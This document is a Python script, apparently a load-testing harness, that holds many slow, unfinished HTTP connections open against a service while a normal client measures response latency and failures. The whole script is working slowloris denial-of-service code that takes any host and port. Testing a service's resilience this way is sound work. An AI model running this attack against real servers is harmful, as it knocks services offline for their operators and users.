#!/usr/bin/env python3
"""Slow clients against the agent while a normal client measures latency.

usage: slowloris.py HOST PORT NSLOW SECONDS [SRC_ADDR ...]

Opens NSLOW connections (spread over the source addresses, default
127.0.0.2), each sending an unfinished request one byte per second. Meanwhile
a normal client on 127.0.0.1 sends GET /ca every 0.5 s. Prints one JSON line:
{"slow_opened": N, "slow_open": N still sending, "slow_alive_at_end": N,
 "normal": [seconds...], "normal_failed": N}
"""
import json, socket, sys, time

host, port, nslow, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
srcs = sys.argv[5:] or ["127.0.0.2"]
slow = []
for i in range(nslow):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.bind((srcs[i % len(srcs)], 0))
        s.connect((host, port))
        s.send(b"GET /ca HTTP/1.1\r\nHost: x\r\n")
        slow.append(s)
    except OSError:
        s.close()

opened = len(slow)
normal, failed = [], 0
end = time.time() + secs
tick = 0
while time.time() < end:
    # one byte per slow connection per second
    if tick % 2 == 0:
        for s in list(slow):
            try:
                s.send(b"X")
            except OSError:
                slow.remove(s)
    t0 = time.time()
    try:
        c = socket.create_connection((host, port), timeout=5)
        c.sendall(b"GET /ca HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = b""
        while True:
            b = c.recv(65536)
            if not b:
                break
            data += b
        c.close()
        if data.startswith(b"HTTP/1.1 200"):
            normal.append(round(time.time() - t0, 4))
        else:
            failed += 1
    except OSError:
        failed += 1
    tick += 1
    time.sleep(0.5)
alive = 0
for s in slow:
    try:
        s.send(b"X")
        alive += 1
    except OSError:
        pass
print(json.dumps({"slow_opened": opened, "slow_open": len(slow), "slow_alive_at_end": alive,
                  "normal": normal, "normal_failed": failed}))
